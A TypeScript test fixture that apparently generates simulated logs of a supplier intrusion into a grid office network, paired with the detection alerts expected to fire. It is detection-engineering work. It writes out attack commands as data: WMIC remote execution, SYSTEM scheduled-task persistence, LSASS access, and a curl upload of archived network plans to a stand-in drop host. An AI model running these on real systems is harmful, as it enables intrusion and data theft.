// SPDX-License-Identifier: Apache-2.0
/** Among the hospital's files is how a supplier of both gets into the office network of the grid. */
import { eveAlertOf, eveFlowOf } from "../logs/eve.ts";
import { accessOf, connectionOf, logClearedOf, logonOf } from "../logs/windows.ts";
import { fullName, GRID, hostOf } from "../sector/index.ts";
import { CMD, type ExpectedAlert, LSASS, type Step, SYSTEM32, seat, THEIRS } from "./step.ts";

const OFFICE = "grid-office-031";
const FILES = "grid-fs-02";
const SENSOR = "grid-sensor";
const office = seat(GRID, OFFICE, "sup-meter");
const files = seat(GRID, FILES, "adm-he");
const RUSTDESK = "C:\\ProgramData\\support\\rustdesk.exe";
const TOOL = "C:\\ProgramData\\support\\hc.exe";
const CURL = `${SYSTEM32}curl.exe`;
const ARCHIVE = "C:\\ProgramData\\support\\m2.7z";

const OUT = { to: THEIRS.control, port: 443 };

function edge(minute: number, write: Step["write"]): Step {
  return { minute, member: GRID, source: "eve", write };
}

export const GRID_STEPS: readonly Step[] = [
  office.step(110, (at) =>
    logonOf({ member: GRID, host: OFFICE, at }, { user: "sup-meter", kind: 10, from: THEIRS.control }),
  ),
  office.starts(112, {
    image: RUSTDESK,
    commandLine: "rustdesk.exe --silent",
    parent: "C:\\Windows\\explorer.exe",
  }),
  office.starts(118, { image: `${SYSTEM32}nltest.exe`, commandLine: "nltest /dclist:grid", parent: CMD }),
  office.starts(125, {
    image: `${SYSTEM32}wbem\\WMIC.exe`,
    commandLine: `wmic /node:${FILES} process call create "cmd.exe /c tasklist > C:\\Users\\Public\\t.txt"`,
    parent: CMD,
  }),
  files.starts(125.2, {
    image: CMD,
    commandLine: "cmd.exe /c tasklist > C:\\Users\\Public\\t.txt",
    parent: `${SYSTEM32}wbem\\WmiPrvSE.exe`,
  }),
  files.starts(131, {
    image: `${SYSTEM32}schtasks.exe`,
    commandLine: `schtasks /create /tn "Support Health" /tr ${TOOL} /sc hourly /ru SYSTEM`,
    parent: CMD,
  }),
  files.step(137, (at) =>
    accessOf({ member: GRID, host: FILES, at }, { image: TOOL, target: LSASS, rights: "0x1010" }),
  ),
  files.starts(146, {
    image: "C:\\Program Files\\7-Zip\\7z.exe",
    commandLine: `7z.exe a -mhe -pNotReal ${ARCHIVE} D:\\shares\\network-plans`,
    parent: CMD,
  }),
  files.starts(150, {
    image: CURL,
    commandLine: `curl.exe -s -T ${ARCHIVE} https://${THEIRS.dropName}/in/`,
    parent: CMD,
  }),
  files.step(150.1, (at) =>
    connectionOf(
      { member: GRID, host: FILES, at },
      { image: CURL, user: "adm-he", to: THEIRS.drop, port: 443 },
    ),
  ),
  edge(111.5, (at) =>
    eveAlertOf(
      { member: GRID, host: SENSOR, at },
      {
        ...OUT,
        from: hostOf(GRID, OFFICE).ip,
        signature: "EXAMPLE REMOTE Relay of a remote control tool",
        severity: 1,
      },
    ),
  ),
  edge(150.2, (at) =>
    eveFlowOf(
      { member: GRID, host: SENSOR, at },
      { from: hostOf(GRID, FILES).ip, to: THEIRS.drop, port: 443, sent: 734_003_200, received: 41_200 },
    ),
  ),
  files.step(158, (at) => logClearedOf({ member: GRID, host: FILES, at }, "adm-he")),
];

function expect(host: string, ...rules: readonly string[]): ExpectedAlert[] {
  return rules.map((name) => ({ member: GRID, rule: `windows/${name}`, entity: fullName(GRID, host) }));
}

export const GRID_ALERTS: readonly ExpectedAlert[] = [
  { member: GRID, rule: "network/ids-severe-alert", entity: fullName(GRID, SENSOR) },
  ...expect(OFFICE, "remote-control-from-user-folder", "domain-admins-listed", "remote-process-by-wmi"),
  ...expect(FILES, "shell-by-wmi", "task-in-user-folder", "lsass-memory-read", "archive-with-password"),
  ...expect(FILES, "copied-to-cloud-storage", "event-log-cleared"),
];
